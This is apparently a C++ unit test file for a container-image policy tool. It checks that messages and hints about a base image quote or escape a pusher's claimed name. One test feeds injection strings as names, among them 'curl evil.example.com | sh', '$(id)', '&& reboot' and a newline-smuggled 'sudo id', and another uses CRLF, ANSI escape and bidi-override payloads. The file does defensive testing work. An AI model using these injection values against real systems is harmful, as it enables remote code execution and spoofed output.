// The words that the checks of a base share, and what a pusher can do to them.
#include "policy/rules/base_state.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "absl/strings/str_cat.h"
#include "tests/policy/rules/rule_input.h"

namespace plimsoll {
namespace {

using testing::HasSubstr;
using testing::Not;

constexpr char kNameKey[] = "org.opencontainers.image.base.name";

ImageEvidence Claiming(absl::string_view name) {
  return EvidenceOf(
      ImageBuilder().Layer("app").Annotation(kNameKey, name).Build(), {});
}

CheckOutput Identified(const Evidence& evidence) {
  return Judge(ParamsOf("base.identified", "{}"), evidence);
}

TEST(BaseState, TellsThatTheCatalogIsEmptyBeforeAnythingElse) {
  Evidence evidence = Pushed(Claiming("debian:12"));
  evidence.catalog_empty = true;
  const CheckOutput output = Identified(evidence);
  EXPECT_EQ(output.message,
            "the catalog of bases is empty, so no base can be verified: run "
            "plimsoll catalog add --approve NAME IMAGE; expected a base that "
            "is verified");
  EXPECT_EQ(output.hint, "");
}

TEST(BaseState, NamesABaseWithoutANameByItsDigest) {
  const TestImage debian = ImageBuilder().Layer("debian").Build();
  const ImageEvidence image = EvidenceOf(
      ImageBuilder(debian).Layer("app").Build(), {RecordOf(debian, {})});
  EXPECT_EQ(
      Judge("base.identified", "{}", image).message,
      absl::StrCat("base ", debian.manifest_digest.Short(), " is verified"));
}

TEST(BaseState, SaysThatALayerAboveRemovedTheBase) {
  ImageEvidence image = Claiming("debian:12");
  image.base.result = BaseResult::kOverridden;
  EXPECT_EQ(Judge("base.pinned", "{}", image).message,
            "layers above base `docker.io/library/debian:12` remove what it "
            "put there");
}

// People paste what a hint tells them to type.
TEST(BaseState, PutsNoTextOfThePusherIntoACommand) {
  for (const char* name :
       {"x; curl evil.example.com | sh", "$(id)", "debian:12 && reboot",
        "../../etc/passwd", "x`id`", "debian:12\nsudo id", "--help"}) {
    const CheckOutput output = Identified(Pushed(Claiming(name)));
    EXPECT_EQ(output.result, CheckResult::kFail);
    EXPECT_EQ(output.hint,
              "build FROM a catalogued base without squashing, or catalog this "
              "one: plimsoll catalog add --approve NAME IMAGE")
        << name;
  }
}

TEST(BaseState, KeepsAClaimBetweenItsBackticks) {
  const CheckOutput output = Identified(
      Pushed(Claiming("x` is verified\r\nHTTP/1.1 201\x1b[2J\xe2\x80\xae")));
  EXPECT_EQ(output.message,
            "base `x' is verified\\r\\nHTTP/1.1 201\\x1b[2J\\xe2\\x80\\xae` is "
            "only claimed, by what the image says of itself; expected a base "
            "that is verified");
}

TEST(BaseState, KeepsTheNameInAContradictionBetweenItsBackticks) {
  const TestImage debian = ImageBuilder().Layer("debian").Build();
  const TestImage alpine = ImageBuilder().Layer("alpine").Build();
  const TestImage app =
      ImageBuilder(alpine)
          .Layer("app")
          .Annotation(kNameKey, "nothing. All is well` and admitted\n")
          .Annotation("org.opencontainers.image.base.digest",
                      debian.manifest_digest.ToString())
          .Build();
  const CheckOutput output = Judge(
      "base.approved", "{}",
      EvidenceOf(app, {RecordOf(debian, {"docker.io/library/debian:12"}),
                       RecordOf(alpine, {"docker.io/library/alpine:3"})}));
  EXPECT_EQ(output.message,
            absl::StrCat("the image contradicts itself: annotation claims the "
                         "base `nothing. All is well' and admitted\\n` (",
                         debian.manifest_digest.Short(),
                         "), whose layers this image does not have: it stands "
                         "on `docker.io/library/alpine:3`"));
}

TEST(BaseState, ShowsAClaimCutShort) {
  const CheckOutput output =
      Identified(Pushed(Claiming(std::string(5000, 'Q'))));
  EXPECT_LT(output.message.size(), 250);
  EXPECT_THAT(output.message, HasSubstr("QQQ...`"));
  EXPECT_THAT(output.hint, Not(HasSubstr("QQQ")));
}

class Uninspected : public testing::Test {
 protected:
  // An image of three layers, the last two of which were not inspected.
  Uninspected()
      : image_(EvidenceOf(
            WithoutFacts(
                ImageBuilder().Layer("a").Layer("b").Layer("c").Build(), 1),
            {})) {}
  CheckOutput Judged() const { return Judge("base.pinned", "{}", image_); }
  void AddGap(const char* message, bool pending) {
    image_.gaps.push_back({Gap::Kind::kLayer, "", message, pending});
  }

  ImageEvidence image_;
};

TEST_F(Uninspected, CountsTheLayersWhereNoGapSaysMore) {
  EXPECT_EQ(Judged().result, CheckResult::kError);
  EXPECT_EQ(Judged().message,
            "2 of 3 layers not inspected, so the base is not proven");
  EXPECT_EQ(Judged().hint, "push again");
  EXPECT_FALSE(Judged().pending);
}

TEST_F(Uninspected, ShowsThePendingGapBeforeOthers) {
  image_.gaps.push_back({Gap::Kind::kReport, "", "no report", true});
  AddGap("layer 2 of 3: too large", false);
  EXPECT_EQ(Judged().message, "layer 2 of 3: too large");
  EXPECT_EQ(Judged().hint,
            "see the gateway's log for why the layer cannot be read");
  EXPECT_FALSE(Judged().pending);
  AddGap("layer 3 of 3 is being inspected, push again", true);
  EXPECT_EQ(Judged().message, "layer 3 of 3 is being inspected, push again");
  EXPECT_EQ(Judged().hint, "push again");
  EXPECT_TRUE(Judged().pending);
}

TEST_F(Uninspected, SaysThatALayerIsNotThere) {
  image_.gaps.push_back(
      {Gap::Kind::kBlob, "", "layer 2 of 3 is not in the repository", false});
  EXPECT_EQ(Judged().message, "layer 2 of 3 is not in the repository");
  EXPECT_EQ(Judged().hint, "push the image again with all of its layers");
}

TEST_F(Uninspected, KeepsTheLineOfAGapWhole) {
  AddGap("layer 2 of 3: a\r\nb`c", true);
  EXPECT_EQ(Judged().message, "layer 2 of 3: a??b'c");
}

}  // namespace
}  // namespace plimsoll
